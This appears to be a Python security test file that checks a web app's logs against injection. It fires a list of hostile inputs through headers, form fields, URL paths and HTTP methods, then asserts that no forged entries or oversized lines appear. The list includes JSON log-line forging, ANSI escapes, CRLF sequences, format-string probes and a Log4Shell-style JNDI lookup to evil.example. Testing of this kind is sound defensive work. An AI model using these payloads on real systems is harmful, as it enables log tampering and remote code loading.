"""O: what is written into the log by whoever asks."""

from tests.attacks.judging import Judge
from tests.people import bearer, form, network
from tests.registration.asking import elsewhere

LOADS = (
    'x"} \n{"event":"forged","level":"info"}',
    "\x1b[2J\x1b[31m",
    "\u2028\u0085\u202e",
    "%0d%0a{}",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__} %(password)s %n",
    "\x00\x07\x7f",
    "y" * 10**6,
)


def write_everywhere(judge: Judge) -> None:
    for load in LOADS:
        header = load.replace("\n", " ").replace("\r", " ").encode().decode("latin-1")
        headers = {
            "User-Agent": header,
            "X-Request-ID": header,
            "Referer": header,
            "Accept-Language": header[:9000],
        }
        body = {**form(email=load), "first_name": load, "password": load}
        for path in ("/auth/register", "/auth/login", f"/{load[:50]}"):
            judge.client.post(
                path, json=body, headers={**headers, **network(elsewhere())}, query_string={"x": load[:999]}
            )
        judge.client.open("/hello", method=load[:40].replace("\n", ""), headers=headers)
        judge.client.get("/users/profile", headers={**network(load[:50].replace("\n", "")), **bearer(header)})


def test_o01_lines_that_are_made_up(judge: Judge) -> None:
    write_everywhere(judge)  # what the allocator keeps of a megabyte is no leak; more of it each time would be
    with judge.case(hashed=0):
        write_everywhere(judge)
        assert judge.journal.of("forged") == []
        assert max(map(len, judge.journal.getvalue().split("\n"))) < 4000


def test_o01_lines_of_what_is_written_down(judge: Judge) -> None:
    person = judge.joined()
    with judge.case(events={"sign_in_failed"}, hashed=len(LOADS)):
        for load in LOADS:
            agent = load.replace("\n", " ").encode().decode("latin-1")
            headers = {"User-Agent": agent, **network(elsewhere())}
            body = {"email": person.email, "password": "not the password"}
            assert judge.client.post("/auth/login", json=body, headers=headers).status_code in {401, 429}
